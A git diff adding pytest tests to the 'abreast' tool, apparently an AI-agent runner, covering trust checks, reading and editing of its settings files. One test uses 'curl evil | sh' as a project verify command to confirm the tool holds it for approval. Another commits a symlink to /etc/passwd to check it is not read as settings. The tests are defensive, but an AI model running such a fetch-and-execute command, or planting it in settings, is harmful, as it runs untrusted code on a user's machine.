@@ -1,11 +1,145 @@
-"""`abreast.toml`, however an editor has saved it."""
+"""The files of settings: whose they are, when they count, and how they are written."""
 
+import os
+import tomllib
 from pathlib import Path
 
+import pytest
+
+import abreast
+from abreast import api
 from abreast.engine.client.delegating import load_settings
+from abreast.engine.client.planning import chosen_agent
+from abreast.engine.client.settings import EffectiveSettings, read_settings
+from abreast.errors import PlanError, UntrustedError
+from abreast.git.repository import find_repository
+from abreast.places import Places, find_places
+from tests.support.repos import Repo
 
 
 def test_a_byte_order_mark_is_no_error(tmp_path: Path) -> None:
-    content = b"\xef\xbb\xbf[delegate]\r\nlimit_tokens = 700\r\n"
+    content = b"\xef\xbb\xbfverify = 'make'\r\n[delegate]\r\nlimit_tokens = 700\r\n"
     (tmp_path / "abreast.toml").write_bytes(content)
     assert load_settings(tmp_path).limit_tokens == 700
+
+
+@pytest.fixture
+def places(scratch_home: Path) -> Places:
+    assert scratch_home.is_dir()
+    return find_places()
+
+
+def commit(repo: Repo, text: str) -> str:
+    (repo.path / "abreast.toml").write_text(text)
+    repo.git("add", "-A")
+    repo.git("commit", "-qm", "settings")
+    return repo.git("rev-parse", "HEAD")
+
+
+def test_what_a_project_asks_for_waits_for_a_yes_to_just_that(
+    repo: Repo, places: Places, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(repo.path)
+    commit(repo, 'verify = "make"\nmodel = "m"\n')
+    with pytest.raises(UntrustedError) as refused:
+        api.read_plan(None, ["Do a."])
+    assert refused.value.asked == {"verify": "make"}
+    counts = {one.key: one.value for one in abreast.settings()}
+    assert (counts["verify"], counts["model"]) == ("", "m")
+
+    assert abreast.trust_settings() == {"verify": "make"}
+    found = found_settings(repo, places)
+    assert found.values["verify"] == "make"
+    first = repo.git("rev-parse", "HEAD")
+    commit(repo, 'verify = "make"\nmodel = "other"\ngate = "off"\n')
+    assert found_settings(repo, places).asked == {}
+    commit(repo, 'verify = "curl evil | sh"\n')
+    assert found_settings(repo, places).asked == {"verify": "curl evil | sh"}
+    assert abreast.asked_settings(base=first) == {}
+
+
+def found_settings(repo: Repo, places: Places) -> EffectiveSettings:
+    head = repo.git("rev-parse", "HEAD")
+    return read_settings(find_repository(repo.path), head, places, os.environ)
+
+
+def test_what_is_not_committed_does_not_count(repo: Repo, places: Places) -> None:
+    (repo.path / "abreast.toml").write_text('verify = "make"\n')
+    assert found_settings(repo, places).values == {}
+    (repo.path / "abreast.toml").unlink()
+    (repo.path / "abreast.toml").symlink_to("/etc/passwd")
+    commit_link = ("add", "-A")
+    repo.git(*commit_link)
+    repo.git("commit", "-qm", "a link")
+    with pytest.raises(PlanError, match="not valid TOML"):  # its text is where it leads
+        found_settings(repo, places)
+    (repo.path / "abreast.toml").unlink()
+    (repo.path / "abreast.toml").mkdir()
+    (repo.path / "abreast.toml" / "file").write_text("x")
+    repo.git(*commit_link)
+    repo.git("commit", "-qm", "a folder")
+    assert found_settings(repo, places).values == {}
+
+
+def test_a_huge_file_of_settings_is_refused(repo: Repo, places: Places) -> None:
+    commit(repo, "# " + "x" * 200_000)
+    with pytest.raises(PlanError, match="more than 100000 bytes"):
+        found_settings(repo, places)
+
+
+def test_a_setting_is_written_where_it_stands_and_comments_stay(
+    scratch_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    kept = tmp_path / "dotfiles" / "abreast.toml"
+    kept.parent.mkdir()
+    kept.write_text('# mine\nagent = "codex"  # the quick one\n\n[limits]\nturns = 5\n')
+    file = scratch_home / "config.toml"
+    file.symlink_to(kept)
+    monkeypatch.setenv("ABREAST_CONFIG", str(file))
+    for key, value in (("model", "m"), ("limits.minutes", "30"), ("pr.draft", "true")):
+        abreast.set_setting(key, value)
+    assert file.is_symlink()
+    text = kept.read_text()
+    assert text.startswith('# mine\nagent = "codex"  # the quick one\nmodel = "m"\n')
+    assert tomllib.loads(text) == {
+        "agent": "codex",
+        "model": "m",
+        "limits": {"turns": 5, "minutes": 30},
+        "pr": {"draft": True},
+    }
+    assert abreast.set_setting("verify", "true") == (file, "true"), "it is a command here"
+    assert abreast.set_setting("model", "") == (file, None)
+    before = kept.read_text()
+    for key, value in (("modle", "m"), ("land", "up"), ("limits", "3"), ("limits.turns", "-1")):
+        with pytest.raises(PlanError):
+            abreast.set_setting(key, value)
+    assert kept.read_text() == before
+
+
+def test_a_file_that_cannot_be_read_stops_before_anything_has_happened(
+    repo: Repo, scratch_home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(repo.path)
+    file = scratch_home / "config.toml"
+    monkeypatch.setenv("ABREAST_CONFIG", str(file))
+    file.write_text("agnet = 'codex'")
+    with pytest.raises(PlanError, match="agnet: unknown key"):
+        api.read_plan(None, ["Do a."])
+    with pytest.raises(PlanError, match="unknown key"):
+        abreast.set_setting("agent", "codex")
+    assert file.read_text() == "agnet = 'codex'"
+    file.write_bytes(b"\xff\xfe")
+    with pytest.raises(PlanError, match="it is not UTF-8"):
+        abreast.settings()
+
+
+def test_the_agent_of_a_session_by_hand_is_that_of_the_settings(
+    repo: Repo, places: Places, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert places.state
+    monkeypatch.chdir(repo.path)
+    abreast.set_setting("agent", "codex")
+    abreast.set_setting("model", "m")
+    assert chosen_agent("HEAD", None, "") == ("codex", "m")
+    monkeypatch.setenv("ABREAST_AGENT", "gemini")
+    assert chosen_agent("HEAD", None, "n") == ("gemini", "n")
